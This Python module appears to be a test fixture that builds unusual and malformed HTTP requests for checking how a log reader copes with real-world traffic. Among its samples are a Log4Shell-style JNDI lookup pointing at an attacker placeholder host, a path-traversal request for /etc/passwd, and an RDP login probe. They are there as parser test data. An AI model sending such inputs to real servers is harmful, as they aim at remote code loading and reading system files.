"""The requests that break log readers: every one has been seen on the open internet, in this or a like form."""

from datetime import datetime, timedelta

from . import people
from .request import Request

CHROME = people.BROWSERS["chrome"]
FIREFOX = people.BROWSERS["firefox"]
LONG_QUERY = "/search/?q=lamp&" + "&".join(f"filter{number}=value-{number:04d}" for number in range(70))
# The first bytes of a TLS handshake, with a cipher list that happens to hold a quote, a backslash and a space.
TLS_HELLO = '\x16\x03\x01\x02\x00\x01\x00\x01\udcfc\x03\x03"\\ \udcc0+\udcc0,\r\n'

AGENTS: tuple[str | None, ...] = (
    None,
    "",
    "-",
    'Mozilla/5.0 (X11; Linux x86_64) "quoted" Gecko/20100101 Firefox/148.0',
    "Mozilla/5.0 (compatible) ends in a backslash\\",
    'escaped \\" quote and \\\\ two backslashes \\x41',
    "LampReader/1.0 (caf\u00e9; \u65e5\u672c\u8a9e) \U0001f4a1",
    "LampReader/1.0 (latin-1 caf\udce9)",
    "Tab\tand  two spaces",
    "${jndi:ldap://attacker.example.com/a}",
    "Mozilla/5.0 [bracket] 'single' <b>tag</b> %s %d 100%",
)
REFERRERS = (
    'https://www.example.com/search?q="desk lamp"',
    "https://www.example.com/caf\u00e9/\u65e5\u672c\u8a9e",
    "https://www.example.com/caf\udce9",
    "https://www.example.com/back\\slash\\",
    "android-app://com.example.reader/",
    "not a url",
    "-",
)
TARGETS = (
    "/%E6%97%A5%E6%9C%AC%E8%AA%9E.html",
    "/\u65e5\u672c\u8a9e.html",
    "/caf\udce9/",
    '/search/?q="desk"',
    "/search/?q=a\\b|c^d`e{f}",
    "/search/?q=one?two?three",
    "/search/?",
    "/search/?q=%zz%u00e9",
    "//products///desk-lamp.html",
    "/products/../about.html",
    "/index.php?page=../../../../etc/passwd%00",
    "/missing.html",
    "/missing.html?from=%2Fold%20page",
    "/private/notes.html",
    "/old-shop",
    "/login?next=%2Faccount%2F",
    "/products",
    "/cart/broken?step=2",
    "http://example.org/about.html",
    LONG_QUERY,
)
OTHERS = (
    ("HEAD", "/about.html"),
    ("OPTIONS", "/"),
    ("OPTIONS", "*"),
    ("POST", "/login"),
    ("PUT", "/products/desk-lamp.html"),
    ("PROPFIND", "/"),
    ("CONNECT", "www.example.com:443"),
)
RAW = (
    TLS_HELLO,
    "GET /products/oak desk.html HTTP/1.1\r\nHost: example.org\r\n\r\n",
    "GET /\r\n",
    "GET / HTTP/1.0\r\n\r\n",
    "GET / HTTP/1.1\r\n\r\n",
    "\r\n\r\n",
    "get / http/1.1\r\nHost: example.org\r\n\r\n",
    '"\\" \\\r\n\r\n',
    "\x03\x00\x00/*\udce0\x00\x00\x00\x00\x00Cookie: mstshash=admin\r\n",
    "GET /about.html HTTP/1.1\r\nHost: exam",
)


def odd_requests(day: datetime, hosts: tuple[str, ...]) -> list[Request]:
    """All of the above, half a minute apart in the afternoon of the third day."""
    base = Request(day + timedelta(days=2, hours=13), "203.0.113.77", FIREFOX, host=hosts[0])
    found = [base._replace(agent=agent, target="/about.html?agent=" + str(n)) for n, agent in enumerate(AGENTS)]
    found += [base._replace(referrer=referrer, target="/blog/") for referrer in REFERRERS]
    found += [base._replace(client="2001:db8::dead:beef", agent=CHROME, target=target) for target in TARGETS]
    for method, target in OTHERS:
        body = "user=alice" if method in ("POST", "PUT") else ""
        found.append(base._replace(method=method, target=target, body=body))
    slow = base._replace(method="POST", target="/contact/send", body="text=Good+morning", held=75.0)
    found += [slow, base._replace(target="/contact/"), base._replace(target="/products/")]
    found += [base._replace(raw=raw) for raw in RAW]
    # A client that says half a word and then waits, until the server gives up (408).
    found.append(base._replace(raw="GET /abo", wait=True))
    return [request._replace(at=base.at + timedelta(seconds=30 * n)) for n, request in enumerate(found)]
